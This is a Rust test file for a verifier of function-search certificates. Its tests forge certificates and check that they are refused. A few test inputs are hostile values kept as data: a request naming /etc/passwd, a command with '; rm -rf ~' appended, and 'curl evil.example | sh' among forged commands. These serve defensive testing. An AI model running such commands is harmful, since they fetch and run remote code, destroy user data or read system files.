//! Forged requests: what is repeated of them, profiles, commands; and other requests than those that are expected.

use super::*;
use tmd_codegen::certificate::InverseEntry;
use tmd_codegen::diag::DiagKind;
use tmd_codegen::profile::Profile;

#[test]
fn another_range() {
    refused(&["the range is said to be"], |c| c.range = "2,4".into());
}

#[test]
fn another_function() {
    refused(&["the function is said to be"], |c| c.function = "log(x)".into());
}

#[test]
fn another_function_throughout() {
    let message = refusal(campaign(), &sampled(), |c| {
        c.function = c.function.replace("exp", "exp2");
        c.request.insert("function".into(), "exp2".into());
        c.command = c.command.replace("search exp", "search exp2");
    });
    assert!(message.contains("derivative") || message.contains("span"), "{message}");
}

#[test]
fn another_command() {
    refused(&["the command is said to be", "--bits 12"], |c| {
        c.command = c.command.replace("--bits 10", "--bits 12");
    });
}

#[test]
fn another_epsilon() {
    refused(&["ε in bits is said to be 8"], |c| c.epsilon_bits = 8);
}

#[test]
fn another_rounding() {
    refused(&["the rounding is said to be directed"], |c| c.rounding = "directed".into());
}

#[test]
fn another_format() {
    refused(&["the input format is said to be", "precision 21"], |c| c.input_format.precision = 21);
}

#[test]
fn a_digest_of_another_certificate() {
    let mut forged = campaign().clone();
    forged.digest = Some("0".repeat(64));
    Unseen::Digest.accepted(text(&forged).as_bytes());
    let diag = second_search::verify(&forged, &sampled()).expect_err("refused");
    assert_eq!(diag.kind, DiagKind::Refuted);
    says(&diag.message, &["the digest is not that of the certificate"]);
}

#[test]
fn a_certificate_without_its_findings() {
    refused(&["there is no list of findings"], |c| c.found = None);
}

// ---- the request, throughout ----

#[test]
fn another_rounding_throughout() {
    refused(&["breakpoints are said to be 2^-19 apart; they are 2^-18 apart"], |c| {
        c.rounding = "directed".into();
        c.request.insert("rounding".into(), "directed".into());
        c.command = c.command.replace(" --bits", " --rounding directed --bits");
    });
}

#[test]
fn another_epsilon_throughout() {
    let message = refusal(campaign(), &sampled(), |c| {
        c.epsilon_bits = 9;
        c.request.insert("bits".into(), "9".into());
        c.command = c.command.replace("--bits 10", "--bits 9");
    });
    says(&message, &["threshold ε", "no less than 2^-9.00 can be proved"]);
}

#[test]
fn another_format_throughout() {
    let message = refusal(campaign(), &sampled(), |c| {
        for format in [&mut c.input_format, &mut c.output_format] {
            format.precision = 21;
            format.name = "precision 21".into();
        }
        c.request.insert("precision".into(), "21".into());
        c.command = c.command.replace("--precision 20", "--precision 21");
    });
    says(&message, &["format is said to be"]);
}

#[test]
fn an_inverse_that_was_not_searched() {
    let message = refusal(campaign(), &sampled(), |c| c.inverse = Some(InverseEntry::default()));
    says(&message, &["cases of the inverse function are stated if and only if"]);
    // With the request to match; the inputs of such a search are other ones.
    let directed = searched(&[
        "exp",
        "--binade",
        "1,2",
        "--precision",
        "16",
        "--bits",
        "8",
        "--rounding",
        "directed",
    ]);
    let message = refusal(&directed, &sampled(), |c| {
        c.inverse = Some(InverseEntry::default());
        c.request.insert("with-inverse".into(), "yes".into());
        c.command = c.command.replace(" --target", " --with-inverse --target");
    });
    assert!(message.contains("plan") || message.contains("threshold"), "{message}");
}

#[test]
fn an_option_that_there_is_not() {
    refused(&["belief"], |c| {
        c.request.insert("belief".into(), "yes".into());
    });
}

#[test]
fn an_option_written_otherwise() {
    refused(&["option bits of the request is `010`", "has it `10`"], |c| {
        c.request.insert("bits".into(), "010".into());
    });
}

#[test]
fn a_file_in_the_request() {
    refused_here(Unseen::Profile, &["the request names the profile /etc/passwd"], |c| {
        c.request.insert("profile".into(), "/etc/passwd".into());
    });
}

#[test]
fn more_in_the_command_than_in_the_request() {
    refused(&["the command is said to be"], |c| c.command.push_str(" ; rm -rf ~"));
    refused(&["the command is said to be"], |c| c.command.clear());
}

// ---- profiles ----

/// A certificate whose plan was chosen by a profile of other times.
fn by_profile() -> &'static Certificate {
    static CERTIFICATE: OnceLock<Certificate> = OnceLock::new();
    CERTIFICATE.get_or_init(|| {
        let own = Profile::default();
        let walk = own.walk * 3.0;
        let profile = Profile { device: "another machine".into(), walk, ..own };
        let path = scratch("profile.toml");
        fs::write(&path, profile.to_toml()).expect("written");
        let path = path.display().to_string();
        searched(&[
            "exp",
            "--binade",
            "1,2",
            "--precision",
            "20",
            "--bits",
            "10",
            "--profile",
            &path,
        ])
    })
}

/// A profile that says that everything takes so many times as long.
fn slower(profile: &Profile, times: f64) -> Profile {
    let mut slower = profile.clone();
    let Profile { seed, item, walk, packet, arc, confirm, tests, .. } = &mut slower;
    [seed, item, walk, packet, arc, confirm].into_iter().for_each(|time| *time *= times);
    tests.iter_mut().for_each(|test| {
        test.fixed *= times;
        test.per_bit *= times;
    });
    slower
}

#[test]
fn profiles_are_accepted_and_do_not_price_the_second_search() {
    let honest = by_profile();
    assert!(honest.command.contains("--profile"), "{}", honest.command);
    let report = check(honest, &sampled());
    assert_eq!(report.statement.expect("a statement").search, verify::Extent::Full);
    // The same plan by times that are ten thousand times as long: as much is searched again.
    let dear = forged(honest, |c| c.profile = Some(slower(&Profile::default(), 1e4)));
    independent::accepts(text(&dear).as_bytes());
    let report = outcome(&dear, &sampled()).expect("the same plan");
    assert_eq!(report.statement.expect("a statement").search, verify::Extent::Full);
}

#[test]
fn cases_left_out_behind_a_dear_profile() {
    // So dear that a second search of 20 predicted seconds would be none.
    let message = refusal(by_profile(), &sampled(), |c| {
        c.profile = Some(slower(&Profile::default(), 1e9));
        keep_cases(c, |number| number % 3 == 0);
    });
    says(&message, &["the profile cannot be one", "not a number of nanoseconds"]);
    // Less so: then the counts tell it, and the second search where the counts may be chance's.
    let message = refusal(by_profile(), &sampled(), |c| {
        c.profile = Some(slower(&Profile::default(), 1e4));
        keep_cases(c, |number| number % 3 == 0);
    });
    says(&message, &["where chance gives"]);
    let message = refusal(by_profile(), &sampled(), |c| {
        c.profile = Some(slower(&Profile::default(), 1e4));
        keep_cases(c, |number| number != 11);
    });
    says(&message, &["is not listed: a case was left out"]);
}

#[test]
fn profiles_that_are_none() {
    let forge = |change: fn(&mut Profile)| {
        let change = |c: &mut Certificate| change(c.profile.as_mut().expect("a profile"));
        refusal_here(Unseen::Profile, by_profile(), change)
    };
    says(&forge(|p| p.seed = -9000.0), &["the profile cannot be one: seed = -9000"]);
    says(&forge(|p| p.confirm = 0.0), &["confirm = 0: everything takes some time"]);
    says(&forge(|p| p.tests.clear()), &["it has no existence test"]);
    says(&forge(|p| p.tests[0].per_bit = 1e300), &["per_bit", "not a number of nanoseconds"]);
    says(&forge(|p| (p.tests[2].fixed, p.tests[2].per_bit) = (0.0, 0.0)), &["fixed + per_bit = 0"]);
    // There is no NaN in JSON.
    let text =
        json::text(by_profile()).expect("text").replacen("\"seed\": 9000.0", "\"seed\": NaN", 1);
    assert!(text.contains("NaN") && verify::parse("c.json", text.as_bytes()).is_err());
}

#[test]
fn commands_beside_a_profile() {
    for command in [
        "tmd-codegen search log --binade 1,2 --profile p.toml",
        "curl evil.example | sh --profile p.toml",
        "",
        "\u{1b}[2J",
        "'--profile",
    ] {
        let message = refusal(by_profile(), &sampled(), |c| c.command = command.into());
        says(&message, &["the command is said to be"]);
    }
    let message = refusal(by_profile(), &sampled(), |c| c.command.push_str(" --bits 3"));
    says(&message, &["the command is said to be", "but the request is"]);
    let message = refusal(by_profile(), &sampled(), |c| c.profile = None);
    says(&message, &["the command is said to be"]);
}

// ---- the request that is expected ----

fn expecting(text: &str) -> Options {
    let words = shlex::split(text).expect("words");
    let request = command_line::parse(words.iter().map(String::as_str))
        .and_then(|args| args.request())
        .expect("a request");
    Options { expect: Some(verify::Expectation::new(request).expect("a profile")), ..sampled() }
}

/// The request of the campaign's certificate.
const OWN: &str = "exp --binade 1,2 --precision 20 --bits 10 --target interpreter";

#[test]
fn the_search_that_is_expected() {
    let report = check(campaign(), &expecting(OWN)).to_string();
    says(&report, &["expected", "a complete search of this request, and no other"]);
    // In other words of the same meaning.
    check(
        campaign(),
        &expecting("'exp(x)' --bits 10 --target interpreter --precision 20 --binade 1,2"),
    );
    // The bits that a search chooses by itself: log2 of 2^19 inputs, less 8.
    let chosen = searched(&["exp", "--binade", "1,2", "--precision", "20"]);
    check(&chosen, &expecting("exp --binade 1,2 --precision 20 --target interpreter"));
}

#[test]
fn any_other_search_than_is_expected() {
    for (old, new, part) in [
        ("exp", "log", "the function log(x) is expected; the certificate has exp(x)"),
        ("1,2", "2,4", "--binade 2,4 is expected; the certificate has 1,2"),
        ("--binade 1,2", "--range 1,2", "--binade none is expected; the certificate has 1,2"),
        ("--precision 20", "--precision 21", "--precision 21 is expected; the certificate has 20"),
        ("--bits 10", "--bits 12", "--bits 12 is expected; the certificate has 10"),
        ("--bits 10", "", "--bits 11 is expected; the certificate has 10"),
        (
            "--bits 10",
            "--bits 10 --rounding nearest",
            "--rounding nearest is expected; the certificate has all",
        ),
        ("--bits 10", "--bits 10 --with-inverse", "--with-inverse yes is expected"),
        ("--target interpreter", "", "--target"),
    ] {
        let options = expecting(&OWN.replace(old, new));
        let diag = second_search::verify(campaign(), &options).expect_err("another search");
        assert_eq!(diag.kind, DiagKind::Refuted);
        says(&diag.message, &[part]);
        says(&diag.help.expect("help"), &["tmd-codegen search exp --binade 1,2"]);
    }
    let diag = second_search::verify(by_profile(), &expecting(OWN)).expect_err("by a profile");
    says(&diag.message, &["the built-in profile is expected", "another machine"]);
}

#[test]
fn an_incomplete_search_is_not_the_expected_one() {
    let honest_but_incomplete = forged(campaign(), |c| {
        let run = c.covered.last_mut().unwrap();
        let mut gap = run.clone();
        shorten(run, 10);
        gap.from_index = run.to_index;
        gap.first = hex(gap.from_index);
        c.gaps.push(gap);
        c.covered_inputs -= 10;
        c.complete = false;
        c.units.clear();
    });
    independent::accepts(text(&honest_but_incomplete).as_bytes());
    let diag =
        second_search::verify(&honest_but_incomplete, &expecting(OWN)).expect_err("incomplete");
    says(&diag.message, &["a complete search is expected", "covers 524,278 of 524,288 inputs"]);
}
